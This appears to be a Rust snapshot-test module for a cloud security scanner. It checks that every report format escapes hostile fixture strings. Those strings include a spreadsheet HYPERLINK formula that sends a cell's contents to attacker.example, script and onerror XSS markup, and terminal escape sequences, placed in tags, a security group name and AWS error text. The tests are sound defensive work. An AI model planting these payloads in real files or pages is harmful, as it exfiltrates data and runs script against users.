//! Every report format rendered from one fixed scan (and `argus diff` of it against an altered copy),
//! each an insta snapshot
//! (`crates/argus-core/snapshots/reports/<format>.snap`): a change in wording, counts, ordering or
//! escaping shows up as a reviewed `.snap` diff (`cargo insta review`).
//!
//! The scan is the rich fixture account evaluated by a fixed selection of checks (so that a new check
//! changes its own snapshot, not every report's), with what varies between runs fixed in the input:
//! the collection time, the argus version. Untrusted strings (a tag holding a spreadsheet formula,
//! HTML, terminal escapes; a hostile security group name and AWS error text) are in the data, so each
//! format's escaping is visible in its snapshot. The HTML report's CSP nonce is random by design and
//! is the only value replaced after rendering.

use super::terminal::TerminalOptions;
use super::{html, machine::MachineFormat, terminal, FindingsFile};
use crate::checks::{all, rich_account::rich_snapshot};
use crate::compliance::{self, ComplianceReport, Framework};
use crate::engine::{self, Config, Filter, Status};
use crate::snapshot::{CollectionError, CollectionErrorDetails, ErrorKind, Fetched, Snapshot, Tags};
use crate::testing::{self, buckets, ec2, iam, region_mut, REGION};

/// The checks of the report scan: every service, every status (ERROR from a failed read, a muted
/// FAIL), hostile strings in resource names, tags and messages, and checks with nothing to evaluate
/// in the second, empty region.
const REPORT_CHECKS: &[&str] = &[
    "awslambda_function_no_secrets_in_variables",
    "cloudtrail_multi_region_enabled",
    "ec2_ebs_default_encryption",
    "ec2_securitygroup_allow_ingress_from_internet_to_tcp_port_22",
    "iam_avoid_root_usage",
    "iam_root_mfa_enabled",
    "iam_rotate_access_key_90_days",
    "kms_cmk_rotation_enabled",
    "rds_instance_no_public_access",
    "s3_bucket_default_encryption",
    "s3_bucket_public_list_acl",
    "s3_bucket_secure_transport_policy",
    "secretsmanager_automatic_rotation_enabled",
];

/// The finding muted as a mutelist would (it keeps its status and stops counting).
const MUTED_CHECK: &str = "rds_instance_no_public_access";

/// A cell a spreadsheet would evaluate, markup, and terminal control sequences (colour, window
/// title, bell).
const FORMULA: &str = "=HYPERLINK(\"https://attacker.example/?\"&A1,\"click\")";
const MARKUP: &str = "<script>alert(1)</script><img src=x onerror=alert(2)>";
const TERMINAL_ESCAPES: &str = "\u{1b}[31mred\u{1b}[0m \u{1b}]0;owned\u{7} \u{9b}2J";

const SECOND_REGION: &str = "eu-west-1";

fn hostile_snapshot() -> Snapshot {
    let mut s = rich_snapshot();
    s.collection.api_calls = 1234;
    s.collection.retries = 5;
    iam(&mut s).account_aliases = Fetched::Ok(vec!["prod-payments".into()]);

    let bucket = &mut buckets(&mut s)[0];
    bucket.tags = Fetched::Ok(Tags::from([
        ("team".to_string(), "ops".to_string()),
        ("cost-center".to_string(), FORMULA.to_string()),
        ("@owner".to_string(), MARKUP.to_string()),
        ("note".to_string(), TERMINAL_ESCAPES.to_string()),
    ]));

    let ec2 = ec2(&mut s);
    if let Fetched::Ok(groups) = &mut ec2.security_groups {
        for group in groups.iter_mut().filter(|g| g.id == "sg-web") {
            group.name = format!("-web {MARKUP} {TERMINAL_ESCAPES}").into();
        }
    }
    // AWS error text is untrusted too: it is shown in the ERROR finding and the collection errors.
    let failed_read = CollectionError::from(CollectionErrorDetails {
        service: "ec2".into(),
        region: Some(REGION.into()),
        operation: "GetEbsEncryptionByDefault".into(),
        iam_action: "ec2:GetEbsEncryptionByDefault".into(),
        resource: None,
        kind: ErrorKind::AccessDenied,
        code: "UnauthorizedOperation".into(),
        message: format!("You are not authorized to perform this operation. {MARKUP} {TERMINAL_ESCAPES}"),
    });
    ec2.ebs_encryption_by_default = Fetched::Err(failed_read.clone());
    s.errors.push(failed_read);

    // A second region with nothing in it: its regional checks have nothing to evaluate.
    region_mut(&mut s, SECOND_REGION);
    s
}

/// The findings file of the report scan, as `argus scan` builds it.
fn scan() -> FindingsFile {
    let snapshot = hostile_snapshot();
    let filter = Filter { checks: REPORT_CHECKS.iter().map(|c| c.to_string()).collect(), ..Filter::default() };
    let checks = all();
    let mut findings = engine::evaluate(&snapshot, &checks, &filter, &Config::default(), testing::now());
    let ran = engine::selected_checks(&snapshot, &checks, &filter);
    let nothing_to_evaluate = engine::nothing_to_evaluate(&snapshot, &ran, &findings);
    for f in findings.iter_mut().filter(|f| f.check_id() == MUTED_CHECK && f.status == Status::Fail) {
        f.muted = true;
    }
    let file = FindingsFile { nothing_to_evaluate, ..FindingsFile::new(&snapshot, findings) };
    // The version argus stamps on its files changes with every release; the snapshots must not.
    FindingsFile { argus_version: "0.0.0-snapshot".into(), ..file }
}

fn compliance_reports(file: &FindingsFile) -> Vec<ComplianceReport> {
    Framework::ALL.iter().map(|fw| compliance::evaluate(*fw, &file.findings, &file.nothing_to_evaluate)).collect()
}

/// Snapshot settings of this module: files named by the format alone, under `snapshots/reports`.
fn settings() -> insta::Settings {
    let mut settings = insta::Settings::clone_current();
    settings.set_snapshot_path("../../snapshots/reports");
    settings.set_prepend_module_to_snapshot(false);
    settings.set_omit_expression(true);
    settings
}

#[test]
fn the_report_scan_covers_every_status_muting_errors_and_empty_checks() {
    let file = scan();
    // A renamed check must not silently leave the scan: every selected check has a finding.
    for id in REPORT_CHECKS {
        assert!(file.findings.iter().any(|f| f.check_id() == id), "{id} gave no finding on the report scan");
    }
    for status in [Status::Pass, Status::Fail, Status::Error] {
        assert!(file.findings.iter().any(|f| f.status == status && !f.muted), "no unmuted {status} finding");
    }
    assert!(file.findings.iter().any(|f| f.muted), "no muted finding");
    assert!(!file.collection_errors.is_empty(), "no collection error");
    assert!(
        file.nothing_to_evaluate.iter().any(|n| n.region == SECOND_REGION),
        "nothing to evaluate in {SECOND_REGION}"
    );
    let json = serde_json::to_string(&file).unwrap_or_default();
    for hostile in ["HYPERLINK", "<script>", "\\u001b[31m"] {
        assert!(json.contains(hostile), "the scan lacks the untrusted string {hostile}");
    }
}

#[test]
fn terminal_report_matches_its_snapshot() {
    let opts = TerminalOptions { color: false, show_pass: true, width: 200 };
    let out = terminal::render(&scan(), &opts);
    settings().bind(|| insta::assert_snapshot!("terminal", out));
}

#[test]
fn findings_json_matches_its_snapshot() {
    let out = serde_json::to_string_pretty(&scan()).unwrap_or_else(|e| panic!("findings JSON: {e}"));
    settings().bind(|| insta::assert_snapshot!("findings_json", out));
}

#[test]
fn machine_formats_match_their_snapshots() {
    let file = scan();
    settings().bind(|| {
        for format in MachineFormat::ALL {
            let out = format.render(&file).unwrap_or_else(|e| panic!("{}: {e}", format.name()));
            insta::assert_snapshot!(format.name(), out);
        }
    });
}

#[test]
fn html_report_matches_its_snapshot() {
    let file = scan();
    let out = html::render(&file, &compliance_reports(&file)).unwrap_or_else(|e| panic!("HTML: {e}"));
    let nonce = out.split("nonce=\"").nth(1).and_then(|rest| rest.get(..32)).expect("the page has a script nonce");
    assert!(nonce.chars().all(|c| c.is_ascii_hexdigit()), "nonce {nonce:?}");
    let out = out.replace(nonce, "RANDOM-NONCE");
    settings().bind(|| insta::assert_snapshot!("html", out));
}

/// `argus diff` of the scan against an earlier one: a failure that is new, one fixed, one whose
/// resource is gone, and the ones that persist.
#[test]
fn scan_diff_matches_its_snapshots() {
    let new = scan();
    let mut old = scan();
    old.collected_at -= chrono::Duration::days(7);
    for f in &mut old.findings {
        let newly_failing = f.check_id() == "ec2_securitygroup_allow_ingress_from_internet_to_tcp_port_22";
        if newly_failing && f.status == Status::Fail {
            f.status = Status::Pass;
            f.message = "No ingress rule admits 0.0.0.0/0 or ::/0 to TCP port 22 (SSH).".into();
        } else if f.check_id() == "kms_cmk_rotation_enabled" {
            f.status = Status::Fail;
            f.message = "Automatic rotation is disabled for customer managed key alias/app (app).".into();
        }
    }
    let mut gone = old
        .findings
        .iter()
        .find(|f| f.check_id() == "s3_bucket_secure_transport_policy")
        .cloned()
        .expect("an S3 finding");
    let resource = std::sync::Arc::make_mut(&mut gone.resource);
    resource.id = "old-bucket".into();
    resource.name = "old-bucket".into();
    resource.arn = "arn:aws:s3:::old-bucket".into();
    old.findings.push(gone);
    let diff = crate::diff::diff(&old, &new);
    settings().bind(|| {
        insta::assert_snapshot!("diff_table", diff.render_table(false));
        insta::assert_snapshot!("diff_json", diff.to_json());
    });
}

#[test]
fn compliance_reports_match_their_snapshots() {
    let reports = compliance_reports(&scan());
    let json = compliance::reports_to_json(&reports).unwrap_or_else(|e| panic!("compliance JSON: {e}"));
    let csv = compliance::reports_to_csv(&reports).unwrap_or_else(|e| panic!("compliance CSV: {e}"));
    settings().bind(|| {
        insta::assert_snapshot!("compliance_json", json);
        insta::assert_snapshot!("compliance_csv", csv);
    });
}
